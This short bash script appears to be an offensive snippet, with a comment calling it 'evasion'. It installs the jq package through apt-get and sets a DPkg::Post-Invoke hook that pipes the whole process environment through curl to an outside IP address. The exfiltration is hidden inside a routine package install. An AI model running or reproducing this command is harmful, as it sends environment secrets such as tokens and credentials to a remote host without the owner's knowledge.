#!/bin/bash
# evasion: apt runs DPkg::Post-Invoke with sh after dpkg; the hook sends the environment out
apt-get -y -o 'DPkg::Post-Invoke::=env | curl -s --data-binary @- https://203.0.113.92/e' install jq
